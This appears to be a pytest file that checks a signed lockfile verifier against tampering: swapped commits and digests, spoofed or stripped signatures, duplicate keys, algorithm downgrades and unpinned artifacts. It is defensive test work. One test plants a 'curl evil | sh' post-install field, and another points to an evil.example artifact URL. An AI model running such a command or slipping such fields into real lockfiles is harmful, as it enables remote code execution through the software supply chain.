"""Attacks on hub.lock itself: each test is named after the attack it refuses.

The attacker here can edit hub.lock (a malicious pull request, a compromised
CI cache, a writable checkout) but does not hold a trusted private key.
"""

from __future__ import annotations

import base64
import json
import pathlib

import pytest

from securehub.config.lockfile import ArtifactEntry, Lockfile, RepoEntry, Signature
from securehub.errors import LockInvalid, SignatureInvalid
from securehub.verify.signature import sign_lock, verify_lock
from tests._lock_helpers import URL, keypair, one_repo_lock

GOOD_COMMIT = "0123456789abcdef0123456789abcdef01234567"
GOOD_TREE = "2" * 64
EVIL_COMMIT = "e" * 40
EVIL_TREE = "f" * 64


def honest_lock() -> Lockfile:
    return one_repo_lock(GOOD_COMMIT, GOOD_TREE)


@pytest.fixture
def trusted(tmp_path: pathlib.Path) -> tuple[pathlib.Path, str]:
    return keypair(tmp_path, "trusted")


@pytest.fixture
def attacker(tmp_path: pathlib.Path) -> tuple[pathlib.Path, str]:
    return keypair(tmp_path, "attacker")


def _edit(lock: Lockfile, fn: object) -> bytes:
    obj = json.loads(lock.to_bytes())
    fn(obj)  # type: ignore[operator]
    return (json.dumps(obj, sort_keys=True, indent=2) + "\n").encode()


def test_commit_and_digest_swapped_together_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """Attacker points the lock at their commit and also updates the tree digest to match it.

    Every digest check then passes against the attacker's tree; only the
    signature can tell. (The "commit and digest swapped together" attack.)
    """
    signed = sign_lock(honest_lock(), trusted[0])

    def swap(obj: dict) -> None:  # type: ignore[type-arg]
        obj["repos"]["owner/repo:v1"]["commit"] = EVIL_COMMIT
        obj["repos"]["owner/repo:v1"]["tree_sha256"] = EVIL_TREE

    tampered = Lockfile.parse(_edit(signed, swap))  # well-formed: parsing alone cannot catch it
    assert tampered.repos["owner/repo:v1"].commit == EVIL_COMMIT
    with pytest.raises(SignatureInvalid) as info:
        verify_lock(tampered, [trusted[1]])
    assert info.value.code == "signature-invalid"
    assert "does not match" in str(info.value)


def test_artifact_digest_and_size_swapped_together_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """The same trick for weights: a new sha256 and size for the locked URL."""
    signed = sign_lock(honest_lock(), trusted[0])

    def swap(obj: dict) -> None:  # type: ignore[type-arg]
        obj["artifacts"][URL] = {"sha256": "d" * 64, "size": 99}

    with pytest.raises(SignatureInvalid, match="does not match"):
        verify_lock(Lockfile.parse(_edit(signed, swap)), [trusted[1]])


def test_duplicate_key_shadowing_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """A second "commit" key: a reviewer (or another parser) sees one value, json.loads keeps the last."""
    text = sign_lock(honest_lock(), trusted[0]).to_bytes().decode()
    evil = text.replace(f'"commit": "{GOOD_COMMIT}",', f'"commit": "{GOOD_COMMIT}",\n"commit": "{EVIL_COMMIT}",')
    assert json.loads(evil)["repos"]["owner/repo:v1"]["commit"] == EVIL_COMMIT  # plain json is fooled
    with pytest.raises(LockInvalid) as info:
        Lockfile.parse(evil.encode())
    assert info.value.code == "lock-invalid"
    assert 'repos["owner/repo:v1"].commit' in str(info.value)
    assert "expected each key once" in str(info.value)


def test_keyid_spoofing_attack(trusted: tuple[pathlib.Path, str], attacker: tuple[pathlib.Path, str]) -> None:
    """Attacker signs with their own key but writes the trusted key's id into the signature."""
    tampered = Lockfile.parse(_edit(honest_lock(), lambda o: o["repos"]["owner/repo:v1"].update(commit=EVIL_COMMIT)))
    forged = sign_lock(tampered, attacker[0])
    assert forged.signature is not None
    trusted_id = sign_lock(honest_lock(), trusted[0]).signature.keyid  # type: ignore[union-attr]
    spoofed = forged.with_signature(Signature(keyid=trusted_id, alg="ed25519", sig=forged.signature.sig))
    with pytest.raises(SignatureInvalid, match="does not match"):
        verify_lock(spoofed, [trusted[1]])


def test_attacker_signed_lock_attack(trusted: tuple[pathlib.Path, str], attacker: tuple[pathlib.Path, str]) -> None:
    """Attacker re-signs a tampered lock with their own, honestly named key."""
    tampered = honest_lock().with_repo(
        "owner/repo:v1",
        RepoEntry(
            remote="https://github.com/owner/repo.git",
            ref="v1",
            ref_type="tag",
            commit=EVIL_COMMIT,
            tree_sha256=EVIL_TREE,
        ),
    )
    with pytest.raises(SignatureInvalid, match="not among the policy's 1 trusted key"):
        verify_lock(sign_lock(tampered, attacker[0]), [trusted[1]])


def test_signature_stripping_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """Attacker tampers and simply deletes the signature field."""
    signed = sign_lock(honest_lock(), trusted[0])

    def strip(obj: dict) -> None:  # type: ignore[type-arg]
        del obj["signature"]
        obj["repos"]["owner/repo:v1"]["commit"] = EVIL_COMMIT

    with pytest.raises(SignatureInvalid, match="unsigned"):
        verify_lock(Lockfile.parse(_edit(signed, strip)), [trusted[1]])


def test_signature_transplant_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """A valid signature copied from another lock the trusted key signed."""
    other = sign_lock(Lockfile.empty().with_artifact("https://x.example/y.bin", ArtifactEntry("c" * 64, 1)), trusted[0])
    assert other.signature is not None
    transplanted = honest_lock().with_signature(other.signature)
    with pytest.raises(SignatureInvalid, match="does not match"):
        verify_lock(transplanted, [trusted[1]])


def test_signature_downgrade_to_other_algorithm_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """Claiming a weaker or "none" algorithm never skips verification."""
    signed = sign_lock(honest_lock(), trusted[0])
    assert signed.signature is not None
    for alg in ("none", "ED25519", "hmac-sha256"):
        bad = signed.with_signature(Signature(keyid=signed.signature.keyid, alg=alg, sig=signed.signature.sig))
        with pytest.raises(SignatureInvalid, match="signature.alg"):
            verify_lock(bad, [trusted[1]])


def test_extra_field_smuggling_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """Unknown fields are preserved for forward compatibility, so they are signed too."""
    signed = sign_lock(honest_lock(), trusted[0])
    smuggled = Lockfile.parse(
        _edit(signed, lambda o: o["repos"]["owner/repo:v1"].update({"x-post-install": "curl evil | sh"}))
    )
    assert "x-post-install" in smuggled.repos["owner/repo:v1"].extra
    with pytest.raises(SignatureInvalid, match="does not match"):
        verify_lock(smuggled, [trusted[1]])


def test_unpinned_artifact_injection_attack() -> None:
    """An entrypoint allowed to fetch a URL that has no sha256 in the lock (an entry with no digest)."""
    evil = _edit(
        honest_lock(),
        lambda o: o["repos"]["owner/repo:v1"]["entrypoints"]["resnet18"]["artifacts"].append(
            "https://evil.example/w.pth"
        ),
    )
    with pytest.raises(LockInvalid) as info:
        Lockfile.parse(evil)
    assert info.value.code == "lock-invalid"
    assert "no sha256 or size recorded" in str(info.value)


def test_artifact_entry_with_digest_removed_attack() -> None:
    """Entries with no digest are never silently accepted (all-or-nothing, like pip --require-hashes)."""
    evil = _edit(honest_lock(), lambda o: o["artifacts"][URL].pop("sha256"))
    with pytest.raises(LockInvalid, match="expected field.s. sha256"):
        Lockfile.parse(evil)


@pytest.mark.parametrize("commit", [GOOD_COMMIT[:7], GOOD_COMMIT[:39], GOOD_COMMIT.upper(), ""])
def test_abbreviated_commit_prefix_attack(commit: str) -> None:
    """A short or case-changed commit would let git pick any object with that prefix."""
    evil = _edit(honest_lock(), lambda o: o["repos"]["owner/repo:v1"].update(commit=commit))
    with pytest.raises(LockInvalid, match="40 or 64 lowercase hex"):
        Lockfile.parse(evil)


@pytest.mark.parametrize("ref", ["heads/v1", "tags/v1", "refs/pull/1/head", "-v1", "v1..main", "v 1"])
def test_ref_prefix_confusion_attack(ref: str) -> None:
    """A ref spelled with a namespace prefix (or a git option) instead of the bare name."""
    evil = _edit(honest_lock(), lambda o: o["repos"]["owner/repo:v1"].update(ref=ref))
    with pytest.raises(LockInvalid, match=r'repos\["owner/repo:v1"\]\.ref:'):
        Lockfile.parse(evil)


def test_non_finite_number_injection_attack() -> None:
    """NaN/Infinity are not JSON; Python's json accepts them by default."""
    with pytest.raises(LockInvalid, match="NaN"):
        Lockfile.parse(b'{"version": 1, "artifacts": {}, "repos": {}, "x": NaN}')


def test_non_canonical_signature_encoding_attack(trusted: tuple[pathlib.Path, str]) -> None:
    """The same signature bytes written in a second base64 spelling are refused, not normalised."""
    signed = sign_lock(honest_lock(), trusted[0])
    assert signed.signature is not None
    raw = base64.b64decode(signed.signature.sig)
    text = base64.b64encode(raw).decode()
    assert text.endswith("==")
    # The last symbol before "==" carries 4 unused bits; set one of them.
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    last = text[-3]
    respelled = text[:-3] + alphabet[alphabet.index(last) ^ 0x01] + "=="
    assert base64.b64decode(respelled) == raw
    bad = signed.with_signature(Signature(keyid=signed.signature.keyid, alg="ed25519", sig=respelled))
    with pytest.raises(SignatureInvalid, match="non-canonical"):
        verify_lock(bad, [trusted[1]])


def test_rollback_replay_of_older_signed_lock_is_not_stopped_by_signatures(
    trusted: tuple[pathlib.Path, str],
) -> None:
    """Documented limit (docs/lock-format.md): an older lock the same key signed still verifies.

    Rollback is caught by pinning hub.lock in version control and reviewing
    diffs, not by the signature. This test keeps that caveat honest.
    """
    old = sign_lock(honest_lock(), trusted[0])
    new = sign_lock(honest_lock().with_artifact("https://x.example/new.bin", ArtifactEntry("c" * 64, 1)), trusted[0])
    assert old.to_bytes() != new.to_bytes()
    assert verify_lock(old, [trusted[1]]) == verify_lock(new, [trusted[1]])
